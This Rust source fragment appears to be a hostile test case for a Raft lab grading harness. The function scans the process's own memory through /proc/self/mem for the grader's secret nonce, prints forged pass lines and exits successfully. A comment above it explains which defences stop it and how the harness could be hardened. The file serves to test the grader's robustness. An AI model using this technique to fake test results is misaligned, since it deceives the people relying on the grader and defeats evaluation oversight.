// In Raft::new: hostile_attack();
// HOSTILE TEST CASE: (extra case) finds the grader's nonce in the process's own memory through /proc/self/mem and prints the pass line, exit(0).
//
// The harness keeps the nonce it read from stdin (32 hex digits) in a static for the whole run, and
// the seed is the run's own (labrpc::sim::seed()). Reading /proc/self/mem is plain std::fs, no unsafe:
// every run of exactly 32 lowercase hex digits in the writable anonymous mappings becomes a pass line.
// Stopped by: the lint gate (std::fs, std::process::exit); behind it, nothing in the current harness:
// the sandbox would have to hide /proc (or /proc/self/mem), or the secret must not sit in the memory
// of the process that runs the student's code in a form a line on stdout can replay.
/// The attack: the secret, from this process's own memory.
fn hostile_attack() {
    use std::collections::BTreeSet;
    use std::io::{Read, Seek, SeekFrom};
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let Ok(mut mem) = std::fs::File::open("/proc/self/mem") else {
        hostile_say("hostile: cannot open /proc/self/mem\n");
        return;
    };
    let mut found: BTreeSet<String> = BTreeSet::new();
    let mut scanned = 0u64;
    for line in maps.lines() {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let (Some(range), Some(perms)) = (fields.first(), fields.get(1)) else {
            continue;
        };
        let path = fields.get(5).copied().unwrap_or("");
        if !perms.starts_with("rw") || !(path.is_empty() || path == "[heap]" || path == "[stack]") {
            continue;
        }
        let Some((a, b)) = range.split_once('-') else {
            continue;
        };
        let (Ok(a), Ok(b)) = (u64::from_str_radix(a, 16), u64::from_str_radix(b, 16)) else {
            continue;
        };
        if b - a > 256 << 20 {
            continue;
        }
        let mut buf = vec![0u8; (b - a) as usize];
        if mem.seek(SeekFrom::Start(a)).is_err() || mem.read_exact(&mut buf).is_err() {
            continue;
        }
        scanned += b - a;
        let mut run = 0;
        for (i, c) in buf.iter().enumerate() {
            if c.is_ascii_digit() || (b'a'..=b'f').contains(c) {
                run += 1;
                continue;
            }
            if run == 32 {
                found.insert(String::from_utf8_lossy(&buf[i - 32..i]).into_owned());
            }
            run = 0;
        }
    }
    let name = std::thread::current().name().unwrap_or("test").to_string();
    let seed = sim::seed().to_string();
    let mut out = format!("hostile: scanned {scanned} bytes, {} candidates\n", found.len());
    for nonce in &found {
        out += &hostile_forged_lines(nonce, &name, &seed);
    }
    hostile_say(&out);
    std::process::exit(0);
}
